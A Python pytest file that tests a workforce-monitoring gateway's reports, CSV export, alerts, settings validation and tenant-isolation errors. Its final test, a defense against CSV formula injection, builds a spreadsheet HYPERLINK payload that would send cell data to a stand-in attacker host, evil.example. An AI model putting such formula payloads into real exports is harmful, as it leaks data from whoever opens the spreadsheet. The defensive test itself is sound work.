"""Reports and alerts through the real gateway process (talking to the test's scheduler
server): API.md's shapes, the CSV export, and precise 4xx for bad input and other tenants."""

from __future__ import annotations

import asyncio
import csv
import io
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from services.scheduler.domain import DAILY_SUMMARIES, IDLE_CHECK, OVERTIME_CHECK
from tests.scheduler.conftest import Event, Rig, World
from tests.scheduler.test_daily_summaries import busy_day
from tests.support import Mesh, start_mesh

DAILY_FIELDS = {
    "user_id",
    "date",
    "total_work_seconds",
    "active_seconds",
    "idle_seconds",
    "agent_silent_seconds",
    "productivity_score",
    "sessions_count",
}


@pytest.fixture(scope="module")
async def gateway(rig: Rig, mesh_env: dict[str, str], tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Mesh]:
    # Started from a thread: its health check calls the scheduler server on this loop.
    env = {**mesh_env, "SCHEDULER_ADDR": rig.scheduler_address}
    logs = Path(tmp_path_factory.mktemp("reports-gateway"))
    running = await asyncio.to_thread(start_mesh, env, logs, ("gateway",))
    yield running
    await asyncio.to_thread(running.stop)


@pytest.fixture
async def http(gateway: Mesh) -> AsyncIterator[httpx.AsyncClient]:
    async with httpx.AsyncClient(base_url=gateway.gateway_url, timeout=30) as client:
        yield client


def error(response: httpx.Response, status: int, mentions: str = "") -> None:
    assert response.status_code == status, response.text
    body = response.json()
    assert set(body) == {"statusCode", "message", "timestamp", "path"} and body["statusCode"] == status
    assert mentions in body["message"], body


async def test_reports_and_export(rig: Rig, world: World, http: httpx.AsyncClient) -> None:
    org = await world.organization("America/New_York")
    manager = await world.user(org, role="manager")
    worker = await world.user(org)
    colleague = await world.user(org)
    day = await busy_day(world, worker, "America/New_York", date(2026, 11, 1))
    await busy_day(world, colleague, "America/New_York", date(2026, 11, 1))
    await rig.runner().run(DAILY_SUMMARIES, day.as_of, manual=True)  # that slot may be done already
    want = day.expected()

    r = await http.get("/reports/daily", params={"date": "2026-11-01"}, headers=worker.headers)
    assert r.status_code == 200, r.text
    assert r.json() == {
        "user_id": worker.id,
        "date": "2026-11-01",
        "total_work_seconds": want.total_work_seconds,
        "active_seconds": want.active_seconds,
        "idle_seconds": want.idle_seconds,
        # The session's time no event covers: its agent sent nothing then.
        "agent_silent_seconds": want.total_work_seconds - want.active_seconds - want.idle_seconds,
        "productivity_score": want.productivity_score,
        "sessions_count": want.sessions_count,
    }
    r = await http.get("/reports/daily", params={"date": "2026-11-02", "userId": worker.id}, headers=manager.headers)
    assert r.status_code == 200 and r.json()["total_work_seconds"] == 0  # a day without a summary: zeros

    r = await http.get(
        f"/reports/user/{worker.id}",
        params={"startDate": "2026-10-30", "endDate": "2026-11-02"},
        headers=manager.headers,
    )
    assert r.status_code == 200, r.text
    body = r.json()
    assert set(body) == {
        "user_id",
        "start_date",
        "end_date",
        "total_work_seconds",
        "total_active_seconds",
        "total_idle_seconds",
        "total_agent_silent_seconds",
        "average_productivity_score",
        "days_worked",
        "daily_summaries",
    }
    assert (body["start_date"], body["end_date"], body["days_worked"]) == ("2026-10-30", "2026-11-02", 1)
    assert body["total_work_seconds"] == want.total_work_seconds
    assert [set(s) for s in body["daily_summaries"]] == [DAILY_FIELDS]

    r = await http.get(
        "/reports/export.csv", params={"startDate": "2026-11-01", "endDate": "2026-11-01"}, headers=manager.headers
    )
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert sorted(row["user_id"] for row in rows) == sorted([worker.id, colleague.id])
    mine = next(row for row in rows if row["user_id"] == worker.id)
    assert int(mine["total_work_seconds"]) == want.total_work_seconds
    assert mine["top_apps"].split(";")[0] == f"{want.top_apps[0][0]}={want.top_apps[0][1]}"
    assert int(mine["agent_silent_seconds"]) == want.total_work_seconds - want.active_seconds - want.idle_seconds
    assert list(rows[0])[-1] == "agent_silent_seconds"  # the original's columns keep their places


async def test_alerts_are_filtered_by_the_server(rig: Rig, world: World, http: httpx.AsyncClient) -> None:
    org = await world.organization("America/New_York")
    manager = await world.user(org, role="manager")
    worker = await world.user(org)
    colleague = await world.user(org)
    day = await busy_day(world, worker, "America/New_York", date(2026, 11, 1))
    other = await busy_day(world, colleague, "America/New_York", date(2026, 11, 1))
    # Both worked 13.75 h by 23:30 on the 1st (over 9 h); half an hour after midnight their
    # last session is idle (its agent reports idle since the input at 23:59): two alerts
    # of each type, two dates.
    for last in (day.sessions[-1], other.sessions[-1]):
        await world.reports_idle(last, day.as_of - timedelta(minutes=1), day.as_of + timedelta(minutes=30))
    await rig.runner().run(OVERTIME_CHECK, day.as_of - timedelta(minutes=30), manual=True)
    await rig.runner().run(IDLE_CHECK, day.as_of + timedelta(minutes=30), manual=True)
    h = manager.headers

    async def listed(headers: dict[str, str], **query: str) -> list[dict[str, Any]]:
        r = await http.get("/alerts", params=query, headers=headers)
        assert r.status_code == 200, r.text
        found: list[dict[str, Any]] = r.json()["alerts"]
        return found

    def kinds(alerts: list[dict[str, Any]]) -> list[tuple[str, str, str | None]]:
        return sorted((a["user_id"], a["type"], a["alert_date"]) for a in alerts)

    inactive, overtime = ("INACTIVE_ALERT", "2026-11-02"), ("OVERTIME_ALERT", "2026-11-01")
    everything = await listed(h)
    assert kinds(everything) == sorted((u, *k) for u in (worker.id, colleague.id) for k in (inactive, overtime))
    assert kinds(await listed(h, userId=worker.id)) == sorted([(worker.id, *inactive), (worker.id, *overtime)])
    idle = await listed(h, userId=worker.id, type="INACTIVE_ALERT")
    assert kinds(idle) == [(worker.id, *inactive)]
    assert idle[0]["session_id"] == day.sessions[3].id and idle[0]["idle_minutes"] == 31  # since 23:59
    over = await listed(h, userId=worker.id, type="OVERTIME_ALERT")
    assert kinds(over) == [(worker.id, *overtime)]
    assert over[0]["session_id"] is None and over[0]["work_hours"] == 13.75
    on_the_second = await listed(h, startDate="2026-11-02", endDate="2026-11-02")
    assert kinds(on_the_second) == sorted([(worker.id, *inactive), (colleague.id, *inactive)])
    assert kinds(await listed(h, endDate="2026-11-01")) == sorted([(worker.id, *overtime), (colleague.id, *overtime)])
    # Employees see exactly their own, and may not ask for anyone else's.
    assert kinds(await listed(colleague.headers)) == sorted([(colleague.id, *inactive), (colleague.id, *overtime)])
    error(await http.get("/alerts", params={"userId": worker.id}, headers=colleague.headers), 403)

    alert_id = idle[0]["id"]
    error(await http.post(f"/alerts/{alert_id}/acknowledge", headers=colleague.headers), 404)
    r = await http.post(f"/alerts/{alert_id}/acknowledge", headers=h)
    assert r.status_code == 200 and r.json()["acknowledged_by"] == manager.id
    first_ack = r.json()["acknowledged_at"]
    r = await http.post(f"/alerts/{alert_id}/acknowledge", headers=h)
    assert r.json()["acknowledged_at"] == first_ack  # idempotent
    assert [a["id"] for a in await listed(h, acknowledged="true")] == [alert_id]
    assert [a["id"] for a in await listed(h, acknowledged="false", userId=worker.id)] == [over[0]["id"]]
    assert {a["id"] for a in await listed(h, acknowledged="false")} == {a["id"] for a in everything} - {alert_id}


async def test_bad_input_and_other_tenants_get_precise_errors(rig: Rig, world: World, http: httpx.AsyncClient) -> None:
    org = await world.organization()
    manager = await world.user(org, role="manager")
    worker = await world.user(org)
    colleague = await world.user(org)
    stranger = await world.user(await world.organization())
    h = manager.headers

    error(await http.get("/reports/daily", params={"date": "2026-02-30"}, headers=h), 400, "date")
    error(await http.get("/reports/daily", params={"date": "yesterday"}, headers=h), 400, "date")
    error(await http.get("/reports/daily", params={"userId": "not-a-uuid"}, headers=h), 400, "userId")
    path = f"/reports/user/{worker.id}"
    error(await http.get(path, params={"startDate": "2026-05-02", "endDate": "2026-05-01"}, headers=h), 400, "endDate")
    error(await http.get(path, params={"startDate": "2025-01-01", "endDate": "2026-05-01"}, headers=h), 400, "366")
    error(await http.get(path, params={"endDate": "2026-05-01"}, headers=h), 400, "startDate")
    error(await http.get(path, params={"startDate": "2026-05-01"}, headers=h), 400, "endDate")
    error(await http.get(path, params={"startDate": "2026-5-1", "endDate": "2026-05-01"}, headers=h), 400, "startDate")
    dates = {"startDate": "2026-05-01", "endDate": "2026-05-01"}
    error(await http.get("/reports/user/not-a-uuid", params=dates, headers=h), 400, "userId: must be a UUID")
    error(await http.get("/reports/user/123", params=dates, headers=worker.headers), 400, "userId")
    # Another organization's user does not exist, for managers as for anyone.
    error(
        await http.get(
            f"/reports/user/{stranger.id}", params={"startDate": "2026-05-01", "endDate": "2026-05-01"}, headers=h
        ),
        404,
    )
    error(await http.get("/reports/daily", params={"date": "2026-05-01", "userId": stranger.id}, headers=h), 404)
    # Employees read only themselves, and cannot export.
    error(await http.get("/reports/daily", params={"userId": colleague.id}, headers=worker.headers), 403)
    export = {"startDate": "2026-05-01", "endDate": "2026-05-02"}
    error(await http.get("/reports/export.csv", params=export, headers=worker.headers), 403)
    error(await http.get("/reports/export.csv", params={"startDate": "2026-05-01"}, headers=h), 400, "endDate")
    error(await http.get("/alerts", params={"type": "LATE"}, headers=h), 400, "type")
    error(await http.get("/alerts", params={"acknowledged": "maybe"}, headers=h), 400, "acknowledged")
    error(await http.get("/alerts", params={"startDate": "2026-13-01"}, headers=h), 400, "startDate")
    error(await http.post("/alerts/not-a-uuid/acknowledge", headers=h), 400, "id: must be a UUID")
    # An id no alert has is 404; another organization's real alert is tests/scheduler/test_alert_tenancy.py.
    error(await http.post(f"/alerts/{uuid.uuid4()}/acknowledge", headers=h), 404)
    # Managers may not change the settings: refused before the body is judged, bad or good.
    error(await http.put("/alerts/settings", json={"idle_minutes": 0, "overtime_hours": 9}, headers=h), 403)
    error(await http.put("/alerts/settings", json={"idle_minutes": 5, "overtime_hours": 9}, headers=h), 403)
    error(await http.get("/reports/daily"), 401)


async def test_alert_settings_read_back_and_drive_the_checks(rig: Rig, world: World, http: httpx.AsyncClient) -> None:
    org = await world.organization()
    admin = await world.user(org, role="admin")
    manager = await world.user(org, role="manager")
    quiet, idler, long_day = [await world.user(org) for _ in range(3)]
    elsewhere = await world.user(await world.organization(), role="admin")
    defaults = {"organization_id": org, "idle_minutes": 5, "overtime_hours": 9.0}
    r = await http.get("/alerts/settings", headers=quiet.headers)
    assert r.status_code == 200, r.text
    assert r.json() == defaults

    changed = {"organization_id": org, "idle_minutes": 30, "overtime_hours": 7.5}
    r = await http.put("/alerts/settings", json={"idle_minutes": 30, "overtime_hours": 7.5}, headers=admin.headers)
    assert r.status_code == 200, r.text
    assert r.json() == changed
    for caller in (admin, manager, quiet):
        assert (await http.get("/alerts/settings", headers=caller.headers)).json() == changed
    # Another organization keeps its own (default) thresholds.
    theirs = (await http.get("/alerts/settings", headers=elsewhere.headers)).json()
    assert theirs == {**defaults, "organization_id": elsewhere.org}

    # The checks use them: 20 idle minutes are under 30 (the default 5 would alert), 40 are
    # over; 8 hours of work are over 7.5 (the default 9 would not alert).
    now = datetime(2026, 10, 21, 15, 0, tzinfo=UTC)
    started = now - timedelta(hours=3)
    await world.session(quiet, started, last_activity_at=now, idle_since=now - timedelta(minutes=20))
    idle = await world.session(idler, started, last_activity_at=now, idle_since=now - timedelta(minutes=40))
    await world.session(long_day, now - timedelta(hours=8), now)
    await rig.runner().run(IDLE_CHECK, now, manual=True)
    await rig.runner().run(OVERTIME_CHECK, now, manual=True)
    r = await http.get("/alerts", headers=manager.headers)
    assert r.status_code == 200, r.text
    found = sorted(
        (a["user_id"], a["type"], a["session_id"], a["idle_minutes"], a["work_hours"]) for a in r.json()["alerts"]
    )
    assert found == sorted(
        [(idler.id, "INACTIVE_ALERT", idle.id, 40, None), (long_day.id, "OVERTIME_ALERT", None, None, 8.0)]
    )


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"idle_minutes": 0, "overtime_hours": 9}, "idle_minutes"),
        ({"idle_minutes": 1441, "overtime_hours": 9}, "idle_minutes"),
        ({"idle_minutes": "5", "overtime_hours": 9}, "idle_minutes"),
        ({"idle_minutes": 5.5, "overtime_hours": 9}, "idle_minutes"),
        ({"overtime_hours": 9}, "idle_minutes"),
        ({"idle_minutes": 5, "overtime_hours": 0}, "overtime_hours"),
        ({"idle_minutes": 5, "overtime_hours": 24.5}, "overtime_hours"),
        ({"idle_minutes": 5, "overtime_hours": "9"}, "overtime_hours"),
        ({"idle_minutes": 5}, "overtime_hours"),
    ],
)
async def test_bad_alert_settings_are_400_naming_the_field_and_change_nothing(
    world: World, http: httpx.AsyncClient, body: dict[str, object], field: str
) -> None:
    admin = await world.user(await world.organization(), role="admin")
    r = await http.put("/alerts/settings", json=body, headers=admin.headers)
    error(r, 400, field)
    assert r.json()["message"].startswith(f"{field}:"), r.json()
    kept = (await http.get("/alerts/settings", headers=admin.headers)).json()
    assert (kept["idle_minutes"], kept["overtime_hours"]) == (5, 9.0)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_export_cells_never_start_a_formula(rig: Rig, world: World, http: httpx.AsyncClient, start: str) -> None:
    """Issue 10: an employee's app name must not run in the manager's spreadsheet (OWASP
    CSV injection): every text cell starting like a formula is prefixed with an apostrophe."""
    org = await world.organization()
    manager = await world.user(org, role="manager")
    worker = await world.user(org)
    day = date(2026, 10, 20)
    app = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"open")'
    moment = datetime(2026, 10, 20, 10, tzinfo=UTC)
    session = await world.session(worker, moment, moment + timedelta(hours=1))
    await world.events(session, [Event(moment + timedelta(minutes=1), "active", 600, app)])
    await rig.runner().run(DAILY_SUMMARIES, datetime(2026, 10, 21, 1, tzinfo=UTC), manual=True)
    r = await http.get(
        "/reports/export.csv",
        params={"startDate": day.isoformat(), "endDate": day.isoformat()},
        headers=manager.headers,
    )
    assert r.status_code == 200, r.text
    (row,) = [row for row in csv.DictReader(io.StringIO(r.text, newline="")) if row["user_id"] == worker.id]
    assert row["top_apps"] == f"'{app}=600"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
